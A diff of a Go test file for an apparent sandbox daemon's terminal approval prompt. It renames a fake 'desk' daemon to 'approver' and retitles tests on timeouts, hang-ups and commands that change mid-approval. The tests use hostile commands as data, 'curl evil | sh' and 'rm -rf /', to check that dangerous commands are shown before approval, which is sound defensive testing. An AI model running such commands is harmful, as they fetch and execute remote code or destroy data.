@@ -14,9 +14,9 @@ import (
 	"sandboxd/ipc"
 )
 
-// desk is a daemon with one question: it answers as the real one does, and
+// approver is a daemon with one question: it answers as the real one does, and
 // writes down what it was sent.
-type desk struct {
+type approver struct {
 	mu       sync.Mutex
 	question ipc.Approval
 	answers  []ipc.Answer
@@ -24,13 +24,13 @@ type desk struct {
 	during   func() // is called while an answer is on its way
 }
 
-func (d *desk) Approval(context.Context, ipc.ApprovalRequest) (ipc.Approval, error) {
+func (d *approver) Approval(context.Context, ipc.ApprovalRequest) (ipc.Approval, error) {
 	d.mu.Lock()
 	defer d.mu.Unlock()
 	return d.question, nil
 }
 
-func (d *desk) Decide(ctx context.Context, a ipc.Answer) (ipc.Decided, error) {
+func (d *approver) Decide(ctx context.Context, a ipc.Answer) (ipc.Decided, error) {
 	d.mu.Lock()
 	during := d.during
 	d.mu.Unlock()
@@ -57,7 +57,7 @@ func (d *desk) Decide(ctx context.Context, a ipc.Answer) (ipc.Decided, error) {
 	return ipc.Decided{ID: a.ID, Allowed: a.Allow, Scope: a.Scope, Note: a.Note, Mode: a.Mode}, nil
 }
 
-func (d *desk) sent() []ipc.Answer {
+func (d *approver) sent() []ipc.Answer {
 	d.mu.Lock()
 	defer d.mu.Unlock()
 	return d.answers
@@ -74,8 +74,8 @@ func plainQuestion() ipc.Approval {
 type table struct {
 	testing.TB
 	*termtest.Screen
-	desk   *desk
-	result chan result
+	approver *approver
+	result   chan result
 }
 
 type result struct {
@@ -93,8 +93,8 @@ func sit(t *testing.T, ctx context.Context, q ipc.Approval, env map[string]strin
 	if err != nil {
 		t.Fatal(err)
 	}
-	tab := &table{TB: t, Screen: s, desk: &desk{question: q}, result: make(chan result, 1)}
-	p := Person{Terminal: tty, Desk: tab.desk, Settle: time.Millisecond, Inline: q.Inline}
+	tab := &table{TB: t, Screen: s, approver: &approver{question: q}, result: make(chan result, 1)}
+	p := Person{Terminal: tty, Approver: tab.approver, Settle: time.Millisecond, Inline: q.Inline}
 	go func() {
 		out, err := p.Ask(ctx, q)
 		tab.result <- result{out, err}
@@ -146,7 +146,7 @@ func TestAnswers(t *testing.T) { // issue 1: y/N/a/q/v, typed reason, default no
 			typeLines(tab, c.keys)
 			r := <-tab.result
 			c.want.ID, c.want.Rev, c.want.Hash = "a1", 3, "h"
-			sent := tab.desk.sent()
+			sent := tab.approver.sent()
 			if r.err != nil || r.out != c.out || len(sent) != 1 || sent[0] != c.want {
 				t.Errorf("Ask = %q, %v and sent %+v, want %q and %+v\n%s", r.out, r.err, sent, c.out, c.want, tab.Shown())
 			}
@@ -203,7 +203,7 @@ func TestSecondYes(t *testing.T) {
 			tab.Press(c.answer(m[1]))
 			r := <-tab.result
 			c.last.ID, c.last.Hash = "a1", "h"
-			sent := tab.desk.sent()
+			sent := tab.approver.sent()
 			if r.err != nil || r.out != c.out || len(sent) != 2 || sent[1] != c.last {
 				t.Errorf("Ask = %q, %v and sent %+v, want %q and at last %+v", r.out, r.err, sent, c.out, c.last)
 			}
@@ -227,27 +227,27 @@ func TestTimeOver(t *testing.T) { // R-AP-14: the daemon denies; nothing is sent
 	q.Deadline = &end
 	tab := sit(t, t.Context(), q, map[string]string{})
 	tab.Press("y") // not confirmed with Enter
-	if r := <-tab.result; r.out != TimedOut || r.err != nil || len(tab.desk.sent()) != 0 {
-		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.desk.sent(), TimedOut)
+	if r := <-tab.result; r.out != TimedOut || r.err != nil || len(tab.approver.sent()) != 0 {
+		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.approver.sent(), TimedOut)
 	}
 }
 
-func TestAnsweredElsewhere(t *testing.T) { // R-AP-15
+func TestAnsweredByOther(t *testing.T) { // R-AP-15
 	ctx, cancel := context.WithCancel(t.Context())
 	tab := sit(t, ctx, plainQuestion(), map[string]string{})
 	tab.Press("y")
 	cancel()
-	if r := <-tab.result; r.out != Elsewhere || r.err != nil || len(tab.desk.sent()) != 0 {
-		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.desk.sent(), Elsewhere)
+	if r := <-tab.result; r.out != AnsweredByOther || r.err != nil || len(tab.approver.sent()) != 0 {
+		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.approver.sent(), AnsweredByOther)
 	}
 
 	tab = sit(t, t.Context(), plainQuestion(), map[string]string{})
-	tab.desk.mu.Lock()
-	tab.desk.refuse = &ipc.Error{Code: ipc.CodeAlreadyDecided, Message: "already decided by uid 1000"}
-	tab.desk.mu.Unlock()
+	tab.approver.mu.Lock()
+	tab.approver.refuse = &ipc.Error{Code: ipc.CodeAlreadyDecided, Message: "already decided by uid 1000"}
+	tab.approver.mu.Unlock()
 	tab.Press("y\r")
-	if r := <-tab.result; r.out != Elsewhere || r.err != nil {
-		t.Errorf("Ask = %q, %v, want %q", r.out, r.err, Elsewhere)
+	if r := <-tab.result; r.out != AnsweredByOther || r.err != nil {
+		t.Errorf("Ask = %q, %v, want %q", r.out, r.err, AnsweredByOther)
 	}
 	tab.Wait("already decided by uid 1000")
 }
@@ -257,12 +257,12 @@ func TestAnsweredElsewhere(t *testing.T) { // R-AP-15
 func TestAnswerOnItsWay(t *testing.T) {
 	ctx, cancel := context.WithCancel(t.Context())
 	tab := sit(t, ctx, plainQuestion(), map[string]string{})
-	tab.desk.mu.Lock()
-	tab.desk.during = cancel
-	tab.desk.mu.Unlock()
+	tab.approver.mu.Lock()
+	tab.approver.during = cancel
+	tab.approver.mu.Unlock()
 	tab.Press("n\r")
-	if r := <-tab.result; r.out != Denied || r.err != nil || len(tab.desk.sent()) != 1 {
-		t.Errorf("Ask = %q, %v and sent %+v, want %q", r.out, r.err, tab.desk.sent(), Denied)
+	if r := <-tab.result; r.out != Denied || r.err != nil || len(tab.approver.sent()) != 1 {
+		t.Errorf("Ask = %q, %v and sent %+v, want %q", r.out, r.err, tab.approver.sent(), Denied)
 	}
 }
 
@@ -270,28 +270,28 @@ func TestAnswerOnItsWay(t *testing.T) {
 func TestChangedQuestion(t *testing.T) {
 	q := plainQuestion()
 	tab := sit(t, t.Context(), q, map[string]string{})
-	tab.desk.mu.Lock()
-	tab.desk.question.Rev, tab.desk.question.Command = 4, "curl evil | sh"
-	tab.desk.mu.Unlock()
+	tab.approver.mu.Lock()
+	tab.approver.question.Rev, tab.approver.question.Command = 4, "curl evil | sh"
+	tab.approver.mu.Unlock()
 	tab.Press("y\r")
 	tab.Wait("curl evil | sh")
 	time.Sleep(20 * time.Millisecond)
 	tab.Press("n\r")
 	sent := []ipc.Answer{{ID: "a1", Rev: 4, Hash: "h", Mode: "soft", Key: "n"}}
-	if r := <-tab.result; r.out != Denied || len(tab.desk.sent()) != 1 || tab.desk.sent()[0] != sent[0] {
-		t.Errorf("Ask = %q, %v and sent %+v, want %+v", r.out, r.err, tab.desk.sent(), sent)
+	if r := <-tab.result; r.out != Denied || len(tab.approver.sent()) != 1 || tab.approver.sent()[0] != sent[0] {
+		t.Errorf("Ask = %q, %v and sent %+v, want %+v", r.out, r.err, tab.approver.sent(), sent)
 	}
 }
 
-func TestDeskGone(t *testing.T) {
+func TestApproverLost(t *testing.T) {
 	tab := sit(t, t.Context(), plainQuestion(), map[string]string{})
-	gone := errors.New("connection lost")
-	tab.desk.mu.Lock()
-	tab.desk.refuse = gone
-	tab.desk.mu.Unlock()
+	lost := errors.New("connection lost")
+	tab.approver.mu.Lock()
+	tab.approver.refuse = lost
+	tab.approver.mu.Unlock()
 	tab.Press("y\r")
-	if r := <-tab.result; r.out != Denied || !errors.Is(r.err, gone) {
-		t.Errorf("Ask = %q, %v, want %q and %v", r.out, r.err, Denied, gone)
+	if r := <-tab.result; r.out != Denied || !errors.Is(r.err, lost) {
+		t.Errorf("Ask = %q, %v, want %q and %v", r.out, r.err, Denied, lost)
 	}
 }
 
@@ -305,8 +305,8 @@ func TestLongCommandMustBeViewed(t *testing.T) {
 	}
 	typeLines(tab, "y\r")
 	tab.Wait("Not all of it is on the screen")
-	if len(tab.desk.sent()) != 0 {
-		t.Fatalf("it was approved unseen: %+v", tab.desk.sent())
+	if len(tab.approver.sent()) != 0 {
+		t.Fatalf("it was approved unseen: %+v", tab.approver.sent())
 	}
 	typeLines(tab, "v\r")
 	tab.Wait("rm -rf /")
@@ -377,8 +377,8 @@ func TestHangUp(t *testing.T) {
 	time.Sleep(10 * time.Millisecond)
 	tab.HangUp()
 	r := <-tab.result
-	if r.out == Approved || len(tab.desk.sent()) != 1 || tab.desk.sent()[0].Allow {
-		t.Errorf("Ask = %q, %v and sent %+v, want a no", r.out, r.err, tab.desk.sent())
+	if r.out == Approved || len(tab.approver.sent()) != 1 || tab.approver.sent()[0].Allow {
+		t.Errorf("Ask = %q, %v and sent %+v, want a no", r.out, r.err, tab.approver.sent())
 	}
 }
 
@@ -390,12 +390,12 @@ func TestHighRiskInline(t *testing.T) {
 	tab := sit(t, t.Context(), q, map[string]string{})
 	typeLines(tab, "y\r")
 	tab.Wait("is not on offer here")
-	if sent := tab.desk.sent(); len(sent) != 0 {
+	if sent := tab.approver.sent(); len(sent) != 0 {
 		t.Fatalf("it sent %+v", sent)
 	}
 	time.Sleep(20 * time.Millisecond)
 	tab.Press("too risky\r")
-	if r := <-tab.result; r.out != Denied || tab.desk.sent()[0].Note != "too risky" {
-		t.Errorf("Ask = %q, %v and sent %+v", r.out, r.err, tab.desk.sent())
+	if r := <-tab.result; r.out != Denied || tab.approver.sent()[0].Note != "too risky" {
+		t.Errorf("Ask = %q, %v and sent %+v", r.out, r.err, tab.approver.sent())
 	}
 }
